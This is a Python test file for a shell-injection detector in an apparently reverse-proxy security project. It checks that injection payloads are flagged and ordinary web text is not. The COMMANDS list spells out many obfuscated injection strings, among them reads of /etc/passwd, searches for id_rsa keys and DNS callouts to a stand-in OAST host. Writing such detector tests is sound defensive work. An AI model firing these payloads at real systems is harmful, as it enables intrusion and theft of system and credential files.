"""The tokenizer of the shell: what a shell would run is a command, what people write is none; time is linear."""

from __future__ import annotations

import time
from fnmatch import fnmatchcase

import pytest
from hypothesis import given
from hypothesis import strategies as st

from revproxy.detection.operators import shell_tokens
from revproxy.detection.operators.shell_tokens import commands, is_shell, matches

COMMANDS = [
    b"& nslookup x.oast.example &",
    b"127.0.0.1 & sleep 10 &",
    b"; docker ps",
    b"'; tar cf - /etc",
    b"| dig x.oast.example",
    b"name; sudo id",
    b"a; ssh root@e.example",
    b"; reboot",
    b"127.0.0.1; cat /etc/hosts",
    b"x|whoami",
    b"$(cat /etc/passwd)",
    b"c'a't /etc/hosts",
    b"c\\at /etc/passwd",
    b"ca$@t /etc/passwd",
    b'who""ami;"curl" http://x.example',
    b"{cat,/etc/hosts}",
    b"a;{l,-lh}s",
    b"{,ifconfig,eth0}",
    b"cat$IFS/etc/passwd",
    b";cat${IFS}/etc/passwd",
    b"/???/c?t /etc/passwd",
    b"cat /[e]tc/p?sswd",
    b"time sh -c whoami",
    b"X=1 nohup sh -c whoami",
    b"gunzip -c /var/log/x",
    b";irb<<<1+2",
    b"cd /;cd etc;bridge -b passwd",
    b"/usr/bin/python3 -m http.server",
    b"printf x | rev | sh",
    b"x; ping -c 3 192.0.2.4",
    b"a\nls -la",
    b"x;cat</etc/passwd",
    b"x;cat </etc/passwd>/tmp/a",
    b"<p>x; cat /etc/passwd</p>",
    b"x & find / -name id_rsa",
    b"x" * 100_000 + b";cat /etc/hosts",
    b";cat /etc/hosts;" + b"x" * 100_000,
]
WORDS = [
    b"| View all posts",
    b"| node js",
    b"; mail us",
    b"& find out more at example.com",
    b"Eat & sleep 8",
    b"example.com; git repo",
    b"learn docker; docker run",
    b"<p>Copy & paste</p>",
    b'<h2 class="x">News & more</h2><p>/home</p>',
    b"<li>Service; mail</li><li>x</li>",
    b"hit & run<br />at home",
    b"<item>Find & more</item>",
    b"Sun & more / other",
    b"don't",
    b"rock & roll",
    b"cat and dog; find me",
    b"tea; cat food",
    b"a | head of state",
    b"R&D; id card",
    b"find a house (in town)",
    b"let it go (live)",
    b"x=1&id&name=2",
    b"id|name|ps",
    b'{"id":1,"ls":2}',
    b"function(){return 1; if(x){ls=2}}",
    b"http://x.example/y?z=1&file=/etc&type=2",
    b"make /model; date: 5",
    b"color:red; top: 5px; left:-3px",
    b"if (id) { set(x) }",
    b"C'est la vie",
    b"use python or perl; git is fine",
]


@pytest.mark.parametrize("value", COMMANDS)
def test_a_command_is_found(value: bytes) -> None:
    assert is_shell(value)


@pytest.mark.parametrize("value", WORDS)
def test_words_are_no_command(value: bytes) -> None:
    assert not is_shell(value)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        (b"c'a't /x", [b"cat", b"/x"]),
        (b'a\\b"c d"e f', [b"abc de", b"f"]),
        (b"a$@b${x}c $u", [b"abc"]),
        (b"{a,b}c", [b"ac", b"bc"]),
        (b"a>b", [b"a", b"b"]),
    ],
)
def test_words_are_read_as_the_shell_reads_them(text: bytes, words: list[bytes]) -> None:
    assert next(commands(text)).words == words


@given(st.text("ab?*", max_size=8), st.text("ab", max_size=8))
def test_patterns_match_as_file_names_do(pattern: str, name: str) -> None:
    assert matches(pattern.encode(), name.encode()) is fnmatchcase(name, pattern)


@pytest.mark.parametrize(("pattern", "matched"), [(b"[pq]asswd", True), (b"[!p]asswd", False), (b"[^x]a*", True)])
def test_sets_of_letters(pattern: bytes, matched: bool) -> None:
    assert matches(pattern, b"passwd") is matched


@given(st.text("ac/ ;=.-\t", max_size=20).map(str.encode))
def test_a_command_that_is_not_read_would_not_run(text: bytes) -> None:
    assert shell_tokens._may_run(text) or not shell_tokens._runs(shell_tokens._read(text, opened=True))


@given(st.binary(max_size=300))
def test_nothing_breaks_it(value: bytes) -> None:
    assert is_shell(value) in (True, False)


@pytest.mark.parametrize(
    "piece", [b";a", b"'", b"{a,", b"$u", b"${", b"/?", b"\\a", b"a;id ", b"(", b";'", b"[", b"<", b";</x>", b"</x>"]
)
def test_time_is_bounded(piece: bytes) -> None:
    value = piece * (2_000_000 // len(piece))
    before = time.process_time()
    is_shell(value)
    assert time.process_time() - before < 0.2
